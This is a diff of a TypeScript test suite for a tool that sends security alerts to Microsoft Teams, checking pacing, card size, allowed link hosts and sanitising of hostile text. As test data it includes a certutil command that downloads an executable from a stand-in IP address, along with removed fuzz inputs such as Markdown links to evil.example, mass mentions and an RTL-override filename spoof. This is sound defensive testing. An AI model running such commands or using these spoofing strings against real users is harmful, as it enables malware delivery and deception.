@@ -12,12 +12,12 @@ import { createDestination } from '../../src/destinations/create.ts';
 import { DestinationRefusedError, RowsRefusedError } from '../../src/destinations/errors.ts';
 import type { Destination } from '../../src/destinations/port.ts';
 import { teamsConfig } from '../../src/destinations/teams/config.ts';
-import { alertCard, digestCard } from '../../src/destinations/teams/encode.ts';
+import { alertCard, messageCard, severalCard } from '../../src/destinations/teams/encode.ts';
 import { nodeHttpClient } from '../../src/hosts/node/http.ts';
 import { type Clock, systemClock } from '../../src/shared/clock.ts';
-import type { Envelope } from '../../src/shared/event.ts';
 import { depsOf } from './deps.ts';
-import { alert, batchOf, envelope } from './samples.ts';
+import { anyMessage, group } from './messages.ts';
+import { alert, batchOf } from './samples.ts';
 
 const signal = new AbortController().signal;
 const MOST_BYTES = 28 * 1024;
@@ -61,7 +61,7 @@ describe('teams', () => {
     for (const part of [
       '🟠 HIGH  Download with certutil',
       'Time  2026-11-23 07:01:02 UTC',
-      'Device  ws-042.contoso.example',
+      'Host  ws-042.contoso.example',
       'User  alice@contoso.example',
       '• FileName: certutil.exe',
       'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
@@ -75,14 +75,14 @@ describe('teams', () => {
     expect(card?.actions?.map(({ title }) => title)).toContain('Alert');
   });
 
-  it('posts at most four messages a second over concurrent batches', async () => {
+  it('posts one card in two seconds over concurrent batches', async () => {
     const { destination, receiver, clock } = await open({}, { concurrency: 2 });
     await Promise.all([
       destination.send(batchOf(destination, [alert(1), alert(2)], 'a'), signal),
       destination.send(batchOf(destination, [alert(3), alert(4)], 'b'), signal),
     ]);
     expect(receiver.counts.events).toBe(4);
-    expect(clock.monotonic()).toBeGreaterThanOrEqual(750);
+    expect(clock.monotonic()).toBeGreaterThanOrEqual(6_000);
   });
 
   it('keeps that pace on a real clock', async () => {
@@ -121,8 +121,10 @@ describe('teams', () => {
     expect(receiver.counts.events).toBe(1);
     const [card] = receiver.received;
     const [heading, first] = (card ? shown(card) : '').split('\n');
-    expect(heading).toBe('🔴 CRITICAL 20 alerts');
-    expect(first).toBe('🔴 CRITICAL  Mimikatz [x](https://evil.example)  ×3  ws-042.contoso.example ×3  ');
+    expect(heading).toBe('🔴 CRITICAL  20 alerts');
+    expect(first).toBe(
+      '🔴 CRITICAL  Mimikatz [x](https://evil.example)  ×3  ws-042.contoso.example ×3  Device',
+    );
   });
 
   it.each([
@@ -146,70 +148,31 @@ describe('teams', () => {
   });
 });
 
-/** Text as an attacker would write it: Markdown, HTML, mentions, date functions, and what hides. */
-const hostile = fc.oneof(
-  fc.string({ unit: 'binary', maxLength: 4_000 }),
-  fc.constantFrom(
-    '[Reset](https://evil.example)',
-    '<at>everyone</at><a href="https://evil.example">x</a>',
-    '{{DATE(2020-01-01T00:00:00Z)}}{{{TIME(x)}}',
-    '\u202egpj.exe',
-    '',
-    ' ',
-    '"\\'.repeat(3_000),
-    '😀é€'.repeat(2_000),
-    '\u{e0041}'.repeat(2_000),
-    '{'.repeat(2_000),
-  ),
-);
 const COLUMNS =
   'DeviceName DeviceId AccountUpn FileName InitiatingProcessFileName ProcessCommandLine ActionType RemoteUrl RegistryKey SenderFromAddress RecipientEmailAddress Subject Application Title AlertId SHA256 AccountSid'.split(
     ' ',
   );
-const anyEnvelope: fc.Arbitrary<Envelope> = fc
-  .record({
-    time: hostile,
-    table: hostile,
-    tenant: hostile,
-    severity: fc.constantFrom(undefined, 'high' as const, 'critical' as const),
-    title: hostile,
-    text: hostile,
-    tags: fc.array(fc.oneof(hostile, fc.constant('attack.t1059.001')), { maxLength: 20 }),
-    list: fc.array(hostile, { maxLength: 20 }),
-    event: fc.dictionary(fc.constantFrom(...COLUMNS), hostile),
-  })
-  .map(({ time, table, tenant, severity, title, text, tags, list, event }) =>
-    envelope(1, {
-      time,
-      table,
-      tenant,
-      ...(severity && { severity }),
-      rule: {
-        title,
-        id: text,
-        description: text,
-        tags,
-        falsepositives: list,
-        matched: list.map((value) => ({ column: title, value })),
-      },
-      event,
-    }),
-  );
+const LINKS = {
+  Splunk: 'https://splunk.example/search?q=host%3D{host}%20rule%3D{rule}',
+  Wiki: `https://wiki.example/${'x'.repeat(1_500)}`,
+};
 
 describe('a card for Teams', () => {
-  it('is one that Teams takes whatever the row and the rule hold, and shows nothing as Markdown', async () => {
+  it('is one that Teams takes whatever a message holds, and shows nothing as Markdown', async () => {
     const receiver = await startTeamsReceiver({ store: true });
     const post = (body: string) => fetch(receiver.url, { method: 'POST', body });
     await fc.assert(
-      fc.asyncProperty(fc.array(anyEnvelope, { minLength: 1, maxLength: 25 }), async (envelopes) => {
-        const [first] = envelopes;
-        for (const body of [...(first ? [alertCard(first)] : []), digestCard(envelopes)]) {
+      fc.asyncProperty(fc.array(anyMessage, { minLength: 1, maxLength: 25 }), async (messages) => {
+        const [first = group(1)] = messages;
+        for (const body of [messageCard(first, LINKS), severalCard(messages, LINKS)]) {
           expect(Buffer.byteLength(body)).toBeLessThanOrEqual(MOST_BYTES);
           const reply = await post(body);
           expect([reply.status, await reply.text()]).toEqual([202, '']);
           const card = receiver.received.at(-1);
           expect(card && shown(card)).not.toMatch(/\{\{|[\u202e\u{e0041}]/u);
           for (const { type } of card?.body ?? []) expect(type).toBe('RichTextBlock');
+          for (const { url } of card?.actions ?? [])
+            expect(url).toMatch(/^https:\/\/(?:security\.microsoft\.com|splunk\.example|wiki\.example)\//);
         }
       }),
       { numRuns: 60 },
